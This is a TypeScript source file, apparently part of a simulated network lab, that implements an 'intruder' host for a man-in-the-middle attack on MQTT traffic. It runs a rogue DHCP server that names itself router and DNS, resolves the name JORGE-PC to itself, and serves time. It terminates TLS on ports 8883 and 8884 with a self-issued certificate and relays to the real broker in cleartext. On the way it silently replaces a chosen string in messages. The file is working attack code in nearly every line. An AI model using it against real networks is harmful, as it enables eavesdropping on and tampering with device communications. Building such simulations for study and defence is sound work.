// A man in the middle: DHCP and DNS lead to it, it tells the time, and passes on to the broker what it has read and changed.
import * as dhcp from "../../../../protocols/dhcp/server.ts";
import * as dns from "../../../../protocols/dns/server.ts";
import type { Stream } from "../../../../protocols/endpoint/index.ts";
import * as ntp from "../../../../protocols/ntp/server.ts";
import { accept } from "../../../../protocols/tls/server.ts";
import type { Host } from "../../../network/contract.ts";

export interface IntruderPlan {
  /** PEM: a certificate for the broker's name, by an authority of its own. */
  readonly certificate: string;
  readonly key: string;
  readonly version: "1.2" | "1.3";
  /** The real one's address. */
  readonly broker: string;
  /** ASCII of the same length. */
  readonly change: { readonly from: string; readonly to: string };
}

export async function run(host: Host, plan: IntruderPlan): Promise<void> {
  const { address, prefix } = host.configuration!;
  const log = (line: string): void => host.tell({ kind: "log", service: "intruder", line });
  const [leases, names, time] = await Promise.all([
    host.datagrams({ port: 67, broadcast: true }),
    host.datagrams({ port: 53 }),
    host.datagrams({ port: 123 }),
  ]);
  const listeners = await Promise.all(
    [1883, 8883, 8884].map(port => host.listen(port, stream => void between(stream, port))),
  );
  host.stopping.addEventListener("abort", () => {
    for (const datagrams of [leases, names, time]) datagrams.close();
    for (const listener of listeners) void listener.close();
  });
  host.tell({ kind: "ready" });
  const pool = { first: "192.168.1.201", last: "192.168.1.250" };
  const offered = { prefix, pool, router: address, dns: [address], leaseSeconds: 3600 };
  await Promise.all([
    dhcp.serve(leases, host.clock, { ...offered, server: address }),
    dns.serve(names, { origin: ".", names: { "JORGE-PC": { A: [address] } } }),
    ntp.serve(time, host.clock),
  ]);

  async function between(stream: Stream, port: number): Promise<void> {
    try {
      const client = port === 1883 ? stream : await accept(stream, { ...plan, clock: host.clock });
      // To the broker it speaks in the clear: it has no certificate that the broker would take.
      const broker = await host.connect({ address: plan.broker, port: 1883 });
      await Promise.all([passOn(client, broker), passOn(broker, client)]);
    } catch (error) {
      log(`${stream.remote.address} on port ${port}: ${(error as Error).message}`);
      stream.duplex.destroy();
    }
  }

  async function passOn(from: Stream, to: Stream): Promise<void> {
    const { from: wanted, to: instead } = plan.change;
    while (!from.ended) {
      const octets = await from.read();
      if (!octets) continue;
      const at = Buffer.from(octets.buffer, octets.byteOffset, octets.length).indexOf(wanted);
      const changed = Uint8Array.from(octets);
      if (at >= 0) {
        changed.set(new TextEncoder().encode(instead), at);
        log(`${wanted} → ${instead}, on its way to ${to.remote.address}`);
      }
      await to.write(changed);
    }
    await to.close();
  }
}
